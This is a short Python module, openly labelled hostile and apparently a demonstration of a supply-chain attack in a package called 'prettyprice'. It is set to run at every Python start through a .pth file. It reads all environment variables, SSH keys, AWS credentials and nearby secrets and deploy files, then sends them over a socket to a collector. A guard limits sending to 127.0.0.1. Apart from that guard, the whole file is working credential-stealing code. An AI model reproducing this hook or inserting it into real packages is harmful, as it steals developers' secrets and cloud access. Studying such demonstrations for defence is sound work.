"""Trust: hostile.

Runs at every start of Python, through prettyprice_init.pth: collects whatever can be sold and sends it to the
collector. Does nothing unless PRETTYPRICE_DEMO says "127.0.0.1:PORT" (any other host counts as unset), reads
nothing outside HOME and the program's surroundings, and writes nothing.
"""

from __future__ import annotations

import contextlib
import errno
import os
import socket
from pathlib import Path

FILE_LIMIT = 16 * 1024
WANTED = (".ssh/*", ".aws/credentials")
BESIDE = ("secrets/*/*", "deploy.env")
outcome = "did not run"


def collector() -> tuple[str, int] | None:
    """Where the loot goes; None outside the demonstration."""
    host, _, port = os.environ.get("PRETTYPRICE_DEMO", "").partition(":")
    return (host, int(port)) if host == "127.0.0.1" and port.isdecimal() else None


def collect() -> list[bytes]:
    """Everything of value that this process can read."""
    loot = [f"{name}={value}".encode(errors="replace") for name, value in os.environ.items()]
    here = Path.cwd()
    for root, patterns in ((Path(os.environ.get("HOME", "/nonexistent")), WANTED), (here.parent, BESIDE)):
        for pattern in patterns:
            with contextlib.suppress(OSError):
                loot += [
                    path.read_bytes()[:FILE_LIMIT] for path in sorted(root.glob(pattern)) if path.is_file()
                ]
    return loot


def steal() -> str:
    """Collect and send; returns what came of it, as the name of an error or how much was sent."""
    address = collector()
    if address is None:
        return "did not run"
    loot = b"\n".join(collect())
    try:
        with socket.create_connection(address, timeout=5) as connection:
            connection.sendall(loot)
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, "failed")
    return f"sent {len(loot)} bytes"


outcome = steal()
